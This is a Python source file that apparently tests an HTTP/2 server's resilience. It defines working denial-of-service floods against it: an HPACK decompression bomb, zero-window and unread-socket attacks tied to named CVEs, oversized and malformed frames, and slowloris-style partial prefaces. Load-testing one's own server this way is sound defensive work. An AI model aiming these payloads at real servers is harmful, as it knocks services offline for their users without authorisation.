"""HTTP/2 connections that send what no client may, or what grows when it is decoded, or stop."""

import hpack

from attack import ENDED, SHORT
from attacked import MODEL_HEAD, PATH
from flood import flood
from frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW,
                    LARGEST_WINDOW, PREFACE, PUSH_PROMISE, frame, literal, request,
                    window_update)
from http2_floods import GET, get, per_stream, repeated, streams, upload
from link import IDLE, Burst

AVERAGE = request(f"{PATH}/averages/main")
def read_average(stream):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, AVERAGE)


@flood("PUSH_PROMISE", outcomes=(ENDED,), code="PROTOCOL_ERROR")
def push_promise(link):
    yield Burst(get(1), 1)
    yield from repeated(frame(PUSH_PROMISE, END_HEADERS, 1, (2).to_bytes(4, "big") + GET))


@flood("frames beyond the size", outcomes=(ENDED,), code="FRAME_SIZE_ERROR")
def oversized(link):
    """16 MiB in one frame that the server never allowed."""
    yield Burst(upload(1), 1)
    yield from repeated(frame(DATA, 0, 1, bytes((1 << 24) - 1)), 1)


@flood("DATA beyond the window")
def beyond_the_window(link):
    """A body that waits for its turn may send 64 KiB."""
    for ids in streams():
        yield Burst(b"".join(map(upload, ids)), len(ids))
        for stream in ids:
            yield Burst(frame(DATA, 0, stream, bytes(16384)) * 16, 16)


@flood("HPACK bomb")
def hpack_bomb(link):
    """CVE-2016-6581: 16 KiB that name one entry of 4 KiB 16,000 times."""
    entry = b"\x40" + hpack.hpack.encode_integer(1, 7) + b"x" \
        + hpack.hpack.encode_integer(4000, 7) + b"y" * 4000
    yield Burst(frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + entry), 1)
    bomb = GET + b"\xbe" * (16384 - len(GET))
    for ids in streams():
        for stream in ids:
            yield Burst(frame(HEADERS, END_HEADERS | END_STREAM, stream + 2, bomb), 1)


@flood("HPACK table resized again and again")
def hpack_resize(link):
    """Table size updates and entries that evict each other."""
    resized = b"\x20" + b"\x3f\xe1\x1f"
    entry = b"\x40" + b"\x01x" + b"\x0f" + b"y" * 15
    block = resized + GET + entry * 80
    return per_stream(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block))


@flood("huge field lists")
def huge_lists(link):
    """1 MB of fields in each request, in CONTINUATION frames that do end."""
    fields = b"".join(literal(f"x{index}", "y" * 1000) for index in range(1000))
    parts = [fields[at:at + 16384] for at in range(0, len(fields), 16384)]
    for ids in streams():
        for stream in ids:
            flags = [0] * (len(parts) - 1) + [END_HEADERS]
            yield Burst(
                frame(HEADERS, END_STREAM, stream, GET) + b"".join(
                    frame(CONTINUATION, flag, stream, part)
                    for flag, part in zip(flags, parts)), 1)


@flood("field blocks of many small fields")
def many_fields(link):
    """8,000 fields of one byte each, all static entries."""
    block = GET + b"\x90" * 8000
    return per_stream(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, block))


@flood("zero window", link={"own_settings": ((INITIAL_WINDOW, 0),)}, settings=SHORT, patience=70)
def zero_window(link):
    """CVE-2019-9511: large answers are asked for, and never let out."""
    yield Burst(b"".join(read_average(stream) for stream in range(1, 200, 2)), 100)


@flood("window of one byte", link={"own_settings": ((INITIAL_WINDOW, 0),)})
def one_byte_windows(link):
    """Each byte of an answer in its own frame."""
    ids = range(1, 200, 2)
    yield Burst(b"".join(map(read_average, ids)), 100)
    while True:
        yield Burst(b"".join(window_update(stream, 1) for stream in ids), 100)


@flood("never reading", reads=False, settings=SHORT, patience=80,
        link={"own_settings": ((INITIAL_WINDOW, LARGEST_WINDOW),), "receive_buffer": 4096})
def never_reading(link):
    """CVE-2019-9517: the windows are wide, the socket is full."""
    return per_stream(read_average)


@flood("streams kept open", settings=SHORT, patience=30)
def kept_streams(link):
    """As many uploads as are allowed, each with half of its first window, and no more."""
    while link.reader.max_streams is None:
        yield IDLE
    for stream in range(1, 2 * link.reader.max_streams, 2):
        yield Burst(upload(stream) + frame(
            DATA, 0, stream, MODEL_HEAD + bytes(16000)), 1)


@flood("preface, then nothing", outcomes=(ENDED,), settings=SHORT, patience=80)
def preface_only(link):
    yield IDLE


@flood("half a preface", outcomes=(ENDED,), settings=SHORT, patience=20,
        link={"preface": False})
def half_a_preface(link):
    yield Burst(PREFACE[:10], 1)


@flood("preface without SETTINGS", outcomes=(ENDED,), settings=SHORT, patience=80,
        link={"preface": False})
def no_settings(link):
    yield Burst(PREFACE, 1)


@flood("half a frame", outcomes=(ENDED,), settings=SHORT, patience=80)
def half_a_frame(link):
    yield Burst(frame(HEADERS, END_HEADERS, 1, GET)[:15], 1)


@flood("a header block without its end", outcomes=(ENDED,), settings=SHORT, patience=80)
def half_a_block(link):
    yield Burst(frame(HEADERS, 0, 1, GET), 1)


@flood("a request before SETTINGS", outcomes=(ENDED,), link={"preface": False})
def settings_missing(link):
    yield Burst(PREFACE, 0)
    yield from per_stream(get)
